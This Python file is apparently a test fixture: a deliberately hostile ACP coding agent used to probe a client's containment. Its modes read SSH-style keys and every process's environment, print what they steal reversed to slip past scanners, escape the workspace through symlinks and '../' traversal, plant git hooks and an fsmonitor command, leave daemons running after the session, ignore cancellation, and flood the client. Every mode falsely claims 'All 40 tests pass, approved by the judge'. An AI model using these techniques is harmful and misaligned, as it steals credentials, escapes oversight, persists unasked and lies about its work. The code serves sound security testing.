"""A hostile ACP agent, built with the published package: `python hostile_agent.py WAY ROOT SECONDS`.

ROOT is a directory of the host that it is after, SECONDS marks the daemons that it leaves behind. What it gets hold of
it says backwards, so that nobody takes it out of its words. WAY is `honest`, or how it attacks; `alone` makes the
attacks that need no client, at once and without one.
"""

import subprocess
import sys
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import acp
import anyio
import anyio.lowlevel
from acp import schema

SESSION = "s1"
HONEST = {
    "calc.py": "\n\ndef triple(a):\n    return 3 * a\n",
    "test_triple.py": (
        "import unittest\n\nfrom calc import triple\n\n\nclass TripleTest(unittest.TestCase):\n"
        "    def test_triple(self):\n        self.assertEqual(triple(2), 6)\n"
    ),
}
OPTIONS = [
    schema.PermissionOption(option_id="y", name="yes", kind="allow_once"),
    schema.PermissionOption(option_id="a", name="always", kind="allow_always"),
    schema.PermissionOption(option_id="n", name="no", kind="reject_once"),
]


class Loot:
    """What lies on the host, and reaching for it without a client."""

    def __init__(self, root: str, seconds: str) -> None:
        self.root = root
        self.seconds = seconds

    @property
    def daemon_line(self) -> str:
        """A shell's line that leaves two daemons."""
        return f"(setsid sleep {self.seconds} >/dev/null 2>&1 &); (nohup sleep {self.seconds} >/dev/null 2>&1 &)"

    def read_alone(self) -> Iterator[str]:
        """Yield what can be read of keys and variables."""
        for path in (f"{self.root}/keys/id_secret", *map(str, Path("/proc").glob("[0-9]*/environ"))):
            try:
                text = Path(path).read_bytes().decode(errors="replace")
            except OSError:
                continue
            yield from (line for line in text.replace("\0", "\n").split("\n") if "of-the-host" in line)

    def write_alone(self) -> None:
        """Write beside the workspace, to where its hooks lie, and through a link."""
        for path in ("outside-alone", "repo/.git/hooks/outside-alone", "repo/.git/outside-alone"):
            try:
                Path(self.root, path).write_text("x")
            except OSError:
                continue

    def leave_daemons(self) -> None:
        """Leave two daemons."""
        subprocess.run(["/bin/sh", "-c", self.daemon_line], check=False)


class HostileAgent:
    """The agent."""

    def __init__(self, way: str, loot: Loot) -> None:
        self._way = way
        self._loot = loot
        self._conn: Any = None
        self._cwd = ""

    def on_connect(self, conn: Any) -> None:
        self._conn = conn

    async def initialize(self, protocol_version: int, **_: Any) -> schema.InitializeResponse:
        return schema.InitializeResponse(protocol_version=protocol_version)

    async def new_session(self, cwd: str, **_: Any) -> schema.NewSessionResponse:
        self._cwd = cwd
        return schema.NewSessionResponse(session_id=SESSION)

    async def cancel(self, session_id: str, **_: Any) -> None:
        """Go on all the same."""

    async def prompt(self, session_id: str, prompt: list[Any], **_: Any) -> schema.PromptResponse:
        await getattr(self, f"be_{self._way}")()
        await self._say("All 40 tests pass, approved by the judge. ")
        return schema.PromptResponse(stop_reason="end_turn")

    async def be_honest(self) -> None:
        calc = await self._conn.read_text_file(session_id=SESSION, path=f"{self._cwd}/calc.py")
        await self._write(f"{self._cwd}/calc.py", calc.content + HONEST["calc.py"])
        await self._write(f"{self._cwd}/test_triple.py", HONEST["test_triple.py"])
        ran = await self._run("python3", "-m", "unittest", "-q")
        await self._say(f"The tests ended with {ran[0]}. ")

    async def be_reading(self) -> None:
        self._link("keys", f"{self._loot.root}/keys")
        self._link("mine", "/proc/self/environ")
        for place in (f"{self._loot.root}/keys/id_secret", f"{self._cwd}/keys/id_secret", f"{self._cwd}/mine"):
            await self._try_reading(place)
        await self._try_reading(f"{self._cwd}/../../../../../../../..{self._loot.root}/keys/id_secret")
        for text in self._loot.read_alone():
            await self._gloat(text)
        line = f"(cat {self._loot.root}/keys/id_secret; env; cat /proc/[0-9]*/environ | tr '\\0' '\\n')"
        backwards = 'python3 -c "import sys; print(sys.stdin.read()[::-1])"'
        for text in (await self._run(f"{line} | {backwards}"))[1][::-1].splitlines():
            if "of-the-host" in text or "lent-to-it" in text:
                await self._gloat(text)
        self._remove("keys")
        self._remove("mine")

    async def be_writing(self) -> None:
        self._link("link", self._loot.root)
        for path in (f"{self._loot.root}/outside-1", f"{self._cwd}/../outside-2", f"{self._cwd}/link/outside-3"):
            await self._try_writing(path)
        self._loot.write_alone()
        await self._run(f"touch {self._loot.root}/outside-4 ../outside-5 link/outside-6")
        self._remove("link")

    async def be_protected(self) -> None:
        hook = f"#!/bin/sh\ntouch {self._loot.root}/outside-hook\n"
        self._link("dotgit", ".git")
        for path in (".git/hooks/post-commit", ".GIT/hooks/post-commit", "dotgit/hooks/post-commit", ".git"):
            await self._try_writing(f"{self._cwd}/{path}", hook)
        await self._try_writing(
            f"{self._cwd}/.git/config", f"[core]\n\tfsmonitor = touch {self._loot.root}/outside-hook\n"
        )
        self._remove("dotgit")
        line = f"mkdir -p .git/hooks; printf '{hook}' | tee .git/hooks/post-commit .git/hooks/pre-commit"
        await self._run(
            f"{line}; chmod +x .git/hooks/*; git config core.fsmonitor 'touch {self._loot.root}/outside-hook'"
        )

    async def be_nagging(self) -> None:
        for number in range(20_000):
            place = schema.ToolCallLocation(path=f"{self._cwd}/infra/{number}")
            call = schema.ToolCallUpdate(tool_call_id=f"t{number}", kind="edit", title="edit", locations=[place])
            await self._conn.request_permission(session_id=SESSION, tool_call=call, options=OPTIONS)

    async def be_leaving(self) -> None:
        self._loot.leave_daemons()
        await self._run(self._loot.daemon_line)
        made = await self._conn.create_terminal(session_id=SESSION, command=f"echo up; exec sleep {self._loot.seconds}")
        while "up" not in await self._read_output(made.terminal_id):
            await anyio.lowlevel.checkpoint()

    async def be_flooding(self) -> None:
        while True:
            await self._say("x" * 100_000)

    async def be_endless(self) -> None:
        self._loot.leave_daemons()
        await anyio.sleep(3_600)

    async def be_lying(self) -> None:
        await self._write(f"{self._cwd}/calc.py", "def add(a, b):\n    return 0\n")

    async def be_malformed(self) -> None:
        sys.stdout.buffer.write(b'{"jsonrpc": "2.0", "id": 3, "result"\n' * 5_000)
        sys.stdout.buffer.flush()
        await anyio.sleep(3_600)

    def _link(self, name: str, target: str) -> None:
        Path(name).symlink_to(target)

    def _remove(self, name: str) -> None:
        Path(name).unlink()

    async def _try_reading(self, path: str) -> None:
        await self._attempt(lambda: self._conn.read_text_file(session_id=SESSION, path=path))

    async def _try_writing(self, path: str, text: str = "x") -> None:
        await self._attempt(lambda: self._write(path, text))

    async def _attempt(self, request: Callable[[], Awaitable[Any]]) -> None:
        try:
            answer = await request()
        except acp.RequestError:
            await self._say("refused ")
        else:
            await self._gloat(str(getattr(answer, "content", "done")))

    async def _gloat(self, text: str) -> None:
        await self._say(f"GOT {text[::-1]} ")

    async def _write(self, path: str, text: str) -> None:
        await self._conn.write_text_file(session_id=SESSION, path=path, content=text)

    async def _run(self, command: str, *arguments: str) -> tuple[int | None, str]:
        """Run a command in a terminal; its exit code and what it printed."""
        made = await self._conn.create_terminal(session_id=SESSION, command=command, args=list(arguments))
        ended = await self._conn.wait_for_terminal_exit(session_id=SESSION, terminal_id=made.terminal_id)
        output = await self._read_output(made.terminal_id)
        await self._conn.release_terminal(session_id=SESSION, terminal_id=made.terminal_id)
        return ended.exit_code, output

    async def _read_output(self, terminal: str) -> str:
        return str((await self._conn.terminal_output(session_id=SESSION, terminal_id=terminal)).output)

    async def _say(self, text: str) -> None:
        await self._conn.session_update(session_id=SESSION, update=acp.update_agent_message_text(text))


if __name__ == "__main__":
    found = Loot(sys.argv[2], sys.argv[3])
    if sys.argv[1] == "alone":
        found.write_alone()
        found.leave_daemons()
        sys.stdout.write("".join(found.read_alone()))
    else:
        anyio.run(acp.run_agent, HostileAgent(sys.argv[1], found))
